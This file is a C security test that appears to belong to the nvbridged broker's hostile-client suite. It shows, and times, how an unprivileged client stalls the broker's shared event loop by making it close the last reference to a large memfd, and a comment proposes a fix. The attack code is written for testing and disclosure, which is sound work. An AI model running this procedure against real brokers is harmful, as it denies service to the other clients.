// SPDX-License-Identifier: MIT
/*
 * Attack: make nvbridged's loop free an unprivileged client's memory.
 *
 * nvbridged closes memory-backed files (memfd, tmpfs, hugetlbfs) on its
 * one loop, not in a closer: "their close cannot block" (closer.c
 * closer_close(); since e3ea9b0 an entry's memfd goes straight to close()
 * in registry.c entry_put()).  It does not block on anybody, but when the
 * broker's reference is the file's last, close() runs __fput() before it
 * returns, and a shmem inode's eviction frees every page of the file:
 * about 150 ms per GiB here, on the loop that serves every client.  The
 * client chooses the size (its own memory, charged to its own cgroup),
 * and makes the broker's reference the last by closing its own after
 * sending it.  Two ways, both here:
 *   entry:   PUBLISH the memfd, close it, UNPUBLISH (or hang up);
 *   refused: send it on a PUBLISH that is refused (bad access): the
 *            broker closes the fd it received (closer_close()).
 * For each, the broker's CPU clock across the one request (its closers are
 * processes of their own: their CPU is not in it), over ROUNDS, with a
 * BIG_MB file and with a one-page file.  The attack worked when one such
 * request cost the loop more than LOOP_MS_MAX ms of CPU and more than
 * RATIO times the one-page file's: a loop stall any client can repeat, at
 * the cost of filling a memfd (fallocate() costs about twice the free here,
 * and fills on the client's own cores, in parallel; the frees are serial).
 *
 * Suggested fix: ask a memory-backed file its size when it is closed
 * (statx STATX_BLOCKS with AT_STATX_DONT_SYNC: shmem_getattr() answers from
 * the inode, no file system to stall) and hand one above a few MiB to a
 * closer (closer_queue()), in entry_put() and in closer_close() alike.
 *
 * Runs as root (becomes a uid) against the broker named in argv[1].
 * Exit 0: the attack worked (a hole); 1: it did not; 2: setup failed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include "hostile.h"

#define BIG_MB 512
#define ROUNDS 3
#define LOOP_MS_MAX 20.0
#define RATIO 10.0

/* a memfd of mb MiB, every page allocated; -1 */
static int memfd_of(size_t mb)
{
	int fd = memfd_create("nvb-lastclose", MFD_CLOEXEC);

	if (fd >= 0 && fallocate(fd, 0, 0, (off_t)(mb ? mb << 20 : 4096))) {
		close(fd);
		fd = -1;
	}
	return fd;
}

/*
 * The broker's CPU (ms) across the one request that makes it close the
 * last reference of a memfd of mb MiB (0: one page); -1 on failure.
 */
static double one_round(pid_t broker, int s, uint32_t *seq, size_t mb, bool refused)
{
	struct nvbridge_unpublish u = { .size = sizeof(u) };
	struct nvbridge_wire_hdr h;
	int fd = memfd_of(mb), rfd;
	double c0, c1;

	if (fd < 0)
		return -1;
	snprintf(u.name, sizeof(u.name), "lc.%u", *seq);
	if (refused) {
		struct nvbridge_publish p = { .size = sizeof(p), .fd = fd, .access = 0xffff };

		snprintf(p.name, sizeof(p.name), "lc.%u", *seq);
		c0 = cpu_clock_ms(broker);
		if (rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_PUBLISH, (*seq)++, &p, sizeof(p),
			  NULL, 0, fd)) {
			close(fd);
			return -1;
		}
		close(fd);	/* in flight: the broker's will be the last reference */
		if (rrecv(s, &h, NULL, 0, &rfd, 10000) || h.result != -EINVAL)
			return -1;
	} else {
		if (rpublish(s, (*seq)++, u.name, fd, NVBRIDGE_ACCESS_OWNER)) {
			close(fd);
			return -1;
		}
		close(fd);
		if (rrecv(s, &h, NULL, 0, &rfd, 10000) || h.result)
			return -1;
		c0 = cpu_clock_ms(broker);
		if (rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_UNPUBLISH, (*seq)++, &u, sizeof(u),
			  NULL, 0, -1) || rrecv(s, &h, NULL, 0, &rfd, 10000) || h.result)
			return -1;
	}
	/* the close may come just after the answer: give the loop a moment */
	usleep(200000);
	c1 = cpu_clock_ms(broker);
	return c0 < 0 || c1 < 0 ? -1 : c1 - c0;
}

/* in a child as UID_ATTACK: writes {small, big} ms for the way asked; 0 or -1 */
static int measure(pid_t broker, bool refused, double res[2])
{
	int p[2], st;
	pid_t c;

	if (pipe(p))
		return -1;
	c = fork();
	if (c == 0) {
		/*
		 * entry: the least of ROUNDS (noise only adds).  refused: the
		 * most, as the broker may receive the file before the sender's
		 * close(), which then frees it itself: a race the sender wins
		 * most times, not always
		 */
		double r[2] = { refused ? 0 : 1e9, refused ? 0 : 1e9 };
		uint32_t seq = 1;
		int s = -1, evfd = -1;

		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (become(UID_ATTACK) || (s = rconnect()) < 0 || rhello_keep(s, &evfd))
			_exit(2);
		for (int i = 0; i < ROUNDS; i++)
			for (int big = 0; big < 2; big++) {
				double ms = one_round(broker, s, &seq, big ? BIG_MB : 0, refused);

				if (ms < 0)
					_exit(3);
				r[big] = (refused ? ms > r[big] : ms < r[big]) ? ms : r[big];
			}
		_exit(write(p[1], r, sizeof(r)) == sizeof(r) ? 0 : 4);
	}
	close(p[1]);
	if (c < 0 || read(p[0], res, 2 * sizeof(double)) != 2 * sizeof(double)) {
		close(p[0]);
		if (c > 0)
			kill(c, SIGKILL), waitpid(c, NULL, 0);
		return -1;
	}
	close(p[0]);
	return waitpid(c, &st, 0) == c && WIFEXITED(st) && !WEXITSTATUS(st) ? 0 : -1;
}

int main(int argc, char **argv)
{
	double entry[2], refused[2];
	pid_t broker;
	char sock[64];
	int rc = 2;

	if (argc < 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	snprintf(sock, sizeof(sock), "/tmp/nvb-lastclose.%d.sock", getpid());
	unlink(sock);
	broker = start_broker_at(argv[1], sock);
	if (broker <= 0)
		return 2;
	if (measure(broker, false, entry) || measure(broker, true, refused)) {
		printf("  setup failed\n");
		goto out;
	}
	printf("  broker CPU, UNPUBLISH of a memfd entry (its last reference): %.2f ms for one "
	       "page, %.1f ms for %d MiB\n", entry[0], entry[1], BIG_MB);
	printf("  broker CPU, a refused PUBLISH carrying a memfd: %.2f ms for one page, %.1f ms "
	       "for %d MiB\n", refused[0], refused[1], BIG_MB);
	printf("  bound: %.0f ms and %.0fx the one-page file's\n", LOOP_MS_MAX, RATIO);
	rc = 1;
	for (int i = 0; i < 2; i++) {
		const double *r = i ? refused : entry;

		if (r[1] > LOOP_MS_MAX && r[1] > RATIO * (r[0] > 0.05 ? r[0] : 0.05))
			rc = 0;
	}
out:
	kill(broker, SIGTERM);
	waitpid(broker, NULL, 0);
	unlink(sock);
	return rc;
}
